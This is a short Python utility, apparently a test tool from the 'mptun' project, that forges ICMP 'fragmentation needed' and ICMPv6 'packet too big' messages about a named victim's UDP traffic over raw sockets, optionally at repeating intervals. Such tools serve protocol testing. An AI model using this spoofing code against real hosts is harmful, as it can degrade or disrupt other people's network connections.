#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
# Copyright (C) 2026 The mptun authors
"""Forge ICMP messages: "fragmentation needed" and "packet too big".

usage: toobig.py [--every SECONDS] VICTIM REMOTE PORT MTU...

They claim that UDP packets from VICTIM, from and to PORT, to REMOTE are too
large for an MTU. One message is sent for each MTU, once, or at an interval
until killed.
"""

import argparse
import ipaddress
import socket
import struct
import time


def checksum(data):
    """Internet checksum of an even number of bytes."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def quoted(victim, remote, port):
    """Head of the packet that is said to be too large."""
    udp = struct.pack(">4H", port, port, 1480, 0)
    if victim.version == 6:
        return struct.pack(">IHBB", 6 << 28, 1480, socket.IPPROTO_UDP, 60) + \
            victim.packed + remote.packed + udp + bytes(1200)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 1500, 0, 0x4000, 60,
                       socket.IPPROTO_UDP, 0) + victim.packed + remote.packed
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return head + udp


def main():
    """Send the messages."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--every", type=float)
    parser.add_argument("victim", type=ipaddress.ip_address)
    parser.add_argument("remote", type=ipaddress.ip_address)
    parser.add_argument("port", type=int)
    parser.add_argument("mtu", type=int, nargs="+")
    args = parser.parse_args()
    victim = args.victim
    quote = quoted(victim, args.remote, args.port)
    if victim.version == 6:
        family, proto = socket.AF_INET6, socket.IPPROTO_ICMPV6
    else:
        family, proto = socket.AF_INET, socket.IPPROTO_ICMP
    with socket.socket(family, socket.SOCK_RAW, proto) as sock:
        while True:
            for mtu in args.mtu:
                if victim.version == 6:
                    # the kernel adds the checksum
                    message = struct.pack(">BBHI", 2, 0, 0, mtu) + quote
                else:
                    message = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + quote
                    message = message[:2] + \
                        struct.pack(">H", checksum(message)) + message[4:]
                sock.sendto(message, (str(victim), 0))
                time.sleep(args.every or 0)
            if not args.every:
                break


main()
